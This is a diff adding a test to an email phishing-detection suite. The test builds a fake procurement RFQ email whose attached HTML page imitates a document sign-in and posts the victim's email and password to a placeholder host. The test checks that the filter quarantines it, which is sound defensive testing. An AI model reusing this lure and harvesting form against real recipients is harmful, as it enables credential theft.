@@ -255,3 +255,27 @@ DEV_GENUINE = [
 def test_genuine_fees_newsletters_and_envelopes_are_delivered(display: str, address: str, subject: str,
                                                                body: str) -> None:
     assert inbound_action(display, address, subject, body) == "deliver"
+
+
+def test_an_attached_sign_in_page_weighs_over_the_bodys_wrapped_ask() -> None:
+    # the body's "sign in with\nyour e-mail account", read whole since wraps are joined, is a weaker ask than the
+    # attached page's form; the page's must still count (it did not while the body's came first)
+    from email.message import EmailMessage
+
+    from rules.model import Direction
+    from tests.test_detection_classes import verdict_for
+
+    m = EmailMessage()
+    m["From"], m["To"] = "Procurement - Meditrans Labs <procurement@meditrans-labs.example>", "bob@example.com"
+    m["Subject"], m["Message-ID"] = "RFQ - reagents Q2 (protected document)", "<rfq@meditrans-labs.example>"
+    m["Date"] = "Mon, 07 Dec 2026 09:00:00 +0000"
+    m.set_content("Good day,\n\nPlease find attached our Request for Quotation for reagents and consumables.\n"
+                  "The document is protected; open the attachment in your browser and sign in with\nyour e-mail "
+                  "account to view the item list.\n\nRegards,\nDaniel\n")
+    page = ('<html><body><h3>Adobe Document Cloud</h3><p>Confirm your email to view this shared document.</p>'
+            '<form action="https://doc-view-secure.example.net/post.php" method="post">'
+            '<input name="email" value="bob@example.com"><input type="password" name="pw">'
+            '<button>View Document</button></form></body></html>')
+    m.add_attachment(page.encode(), maintype="text", subtype="html", filename="RFQ_Reagents_Q2.htm")
+    v = verdict_for(m.as_bytes(), "procurement@meditrans-labs.example", "bob@example.com", Direction.INBOUND)
+    assert v["recipients"]["bob@example.com"]["action"] == "quarantine", v["hits"]
